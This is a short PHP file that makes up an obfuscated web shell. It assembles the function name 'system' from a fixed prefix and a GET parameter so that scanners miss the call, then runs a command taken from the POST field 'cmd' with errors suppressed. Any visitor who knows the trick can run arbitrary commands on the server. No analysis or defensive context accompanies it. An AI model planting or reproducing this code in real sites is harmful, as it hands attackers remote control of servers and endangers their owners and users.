<?php
// the visitor sends the rest of the runner's name: 'sys' + 'tem'
$rest = $_GET['r'];
$run = 'sys' . $rest;
@$run($_POST['cmd']);
